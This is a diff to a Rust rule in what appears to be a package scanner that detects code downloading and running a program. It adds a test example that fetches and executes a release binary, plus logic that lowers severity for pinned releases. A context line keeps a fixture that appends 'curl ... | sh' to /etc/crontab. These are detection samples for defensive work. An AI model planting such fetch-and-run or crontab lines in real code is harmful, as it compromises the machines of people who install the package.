@@ -1,6 +1,7 @@
 //! A download runs as a program.
 
 use super::host;
+use super::provenance::FORGES;
 use super::{Context, Declaration, Example, Finding, judge, runs_on_install};
 use crate::archive::Entry;
 use crate::flow::{Flow, Separator};
@@ -52,6 +53,25 @@ require("https").get("https://files.invalid/tool", (res) => {
                     "i.js",
                     r#"const line = ["*/5 * * * *", "root", "curl -s https://a.invalid/x | sh"];
 require("fs").appendFileSync("/etc/crontab", line.join(" ") + "\n");"#,
+                ),
+            ],
+        },
+        Example {
+            name: "a function runs a release of another project, whose version stands in the address",
+            severity: Some(Severity::Medium),
+            files: &[
+                (
+                    "package.json",
+                    r#"{"name":"a","version":"1.0.0","main":"i.js"}"#,
+                ),
+                (
+                    "i.js",
+                    r#"const fs = require("fs"), { execFileSync } = require("child_process");
+exports.trust = async () => {
+  const res = await fetch("https://github.com/owner/certtool/releases/download/v1.4.4/certtool-v1.4.4-linux");
+  fs.writeFileSync("/tmp/certtool", Buffer.from(await res.arrayBuffer()));
+  execFileSync("/tmp/certtool", ["-install"]);
+};"#,
                 ),
             ],
         },
@@ -125,6 +145,15 @@ fn detect(context: &Context<'_>, found: &mut Vec<Finding>) {
             finding.lower(Severity::Medium, "namesake-host", note);
         }
         let by_import = flow.reach.loads_on(SurfaceKind::Import);
+        if let Some(of) = release_of(from)
+            && !runs_on_install(flow.reach)
+            && !by_import
+        {
+            let note = format!(
+                "a release of {of}, its version fixed in the address, which runs only when somebody asks for it"
+            );
+            finding.lower(Severity::Medium, "pinned-release", note);
+        }
         if !runs_on_install(flow.reach) && !by_import {
             let note = "somebody has to run a command or call a function".to_owned();
             finding.lower(Severity::High, "not-by-itself", note);
@@ -133,6 +162,21 @@ fn detect(context: &Context<'_>, found: &mut Vec<Finding>) {
         judge::by_reach(context, flow, &mut finding);
         found.push(finding);
     }
+}
+
+/// The repository on a forge that an address fetches a release of, if the address fixes which:
+/// the file bears the repository's name and the release's.
+fn release_of(from: &str) -> Option<String> {
+    let at = host::host(from)?;
+    let mut parts = host::path(from).trim_start_matches('/').split('/');
+    let (owner, name) = (parts.next()?, parts.next()?);
+    let is_release = parts.next() == Some("releases") && parts.next() == Some("download");
+    let (tag, file) = (parts.next()?, parts.next()?);
+    let version = tag.trim_start_matches('v');
+    let is_pinned = version.contains('.') && version.bytes().all(|b| !b"<>".contains(&b));
+    let is_named = file.starts_with(name) && file.contains(version);
+    let fits = FORGES.contains(&host::label(&at)) && is_release && is_pinned && is_named;
+    fits.then(|| format!("{owner}/{name}"))
 }
 
 /// Lowers a finding by what careful installers do, and attackers can do as well. So it takes no
